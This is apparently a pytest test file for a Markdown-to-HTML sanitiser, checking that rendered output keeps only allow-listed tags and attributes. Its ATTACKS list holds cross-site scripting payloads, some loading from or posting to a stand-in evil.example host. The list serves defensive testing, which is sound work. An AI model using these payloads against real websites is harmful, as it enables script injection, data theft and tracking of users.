"""Markdown as HTML: what is rendered, and what nobody's HTML gets through."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ilios.api.responses.clean_html import html_of
from tests.unit.engines.test_markdown_structure import markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></script>",
    "<style>body{background:url(//evil.example)}</style>",
    '<img src=x onerror="alert(1)">',
    "<img src=//evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel](data:image/svg+xml;base64,AAAA)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert&#40;1&#41;)",
    "[x](&#106;avascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "[x](vbscript:1)",
    '<a href="java\nscript:alert(1)">x</a>',
    "<svg onload=alert(1)><a xlink:href=javascript:1></svg>",
    "<math><mtext></mtext><script>1</script></math>",
    "<iframe src=//evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    '<td style="background:url(//evil.example)">x</td>',
    '| a |\n| --- |\n| <td style="position:fixed" onclick=x> |',
    "<p id=location name=x class=y>x</p>",
    "</section></body><script>1</script>",
    "<!-- --><script>1</script><!-- -->",
    "<![CDATA[<script>1</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>",
    "```\n</code></pre><script>1</script>\n```",
    "`<script>`",
    "<b a=\"<b b='>'><script>1</script>",
    "&lt;script&gt;1&lt;/script&gt;",
    "\\<script>1</script>",
    "$$</span><script>1</script>$$",
    "[^1]: <script>1</script>",
]
ALLOWED = re.compile(
    r"</?(?:h[1-6]|p|br|hr|div|blockquote|pre|[uod]l|li|d[td]|fig(?:ure|caption)|a|img|span|table"
    r"|caption|t(?:head|body|foot|r|h|d)|em|strong|[biusq]|del|ins|su[bp]|code|mark)"
    r"(?: (?:href=\"(?:https?|mailto):[^\"]*\"|rel=\"noopener noreferrer\"|title=\"[^\"]*\""
    r"|src=\"[A-Za-z0-9._-]+\"|alt=\"[^\"]*\"|start=\"[^\"]*\""
    r"|class=\"math math-(?:inline|display)\""
    r"|style=\"text-align: ?(?:left|right|center);?\"|(?:col|row)span=\"[0-9]{1,4}\"))*>"
)


def is_harmless(html: str) -> bool:
    return "<" not in ALLOWED.sub("", html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_that_does_anything_does_not_get_through(attack: str) -> None:
    for text in (attack, f"before {attack} after", f"| a |\n| --- |\n| {attack} |", f"> {attack}"):
        assert is_harmless(html_of(text)), html_of(text)


@given(st.lists(st.sampled_from(ATTACKS) | markdown, max_size=6).map("\n\n".join))
def test_no_mixture_of_it_does(text: str) -> None:
    assert is_harmless(html_of(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# A *b*", "<h1>A <em>b</em></h1>"),
        ("a **b** ~~c~~ `d<e`", "<p>a <strong>b</strong> <del>c</del> <code>d&lt;e</code></p>"),
        ("one  \ntwo<br>three", "<p>one<br>\ntwo<br>three</p>"),
        ("x<sup>2</sup> H<sub>2</sub>O", "<p>x<sup>2</sup> H<sub>2</sub>O</p>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("$a < b$", '<p><span class="math math-inline">a &lt; b</span></p>'),
        ('![a "b"](p-1.png)', '<p><img src="p-1.png" alt="a &quot;b&quot;"></p>'),
        (
            '[x](https://example.org/?a=1&b=2 "t")',
            '<p><a href="https://example.org/?a=1&amp;b=2" title="t" rel="noopener noreferrer">'
            "x</a></p>",
        ),
        (
            "| a | b |\n| --- | --: |\n| 1 | 2 |",
            '<table><thead><tr><th>a</th><th style="text-align: right">b</th></tr></thead><tbody>'
            '\n<tr><td>1</td><td style="text-align: right">2</td></tr>\n</tbody></table>',
        ),
        (
            '<table><tr><td colspan="2">a</td></tr></table>',
            '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
        ),
    ],
)
def test_markup_is_rendered(text: str, html: str) -> None:
    assert html_of(text).strip() == html


def test_a_note_keeps_its_words() -> None:
    html = html_of("text[^1] and[^2]\n\n[^1]: the note")

    assert "the note" in html
    assert "[^2]" in html


def test_elements_that_are_never_closed_do_not_multiply() -> None:
    text = "".join(f"<b a{number}>" for number in range(200)) + "<p>x" * 1_000

    assert len(html_of(text)) < 40 * len(text)
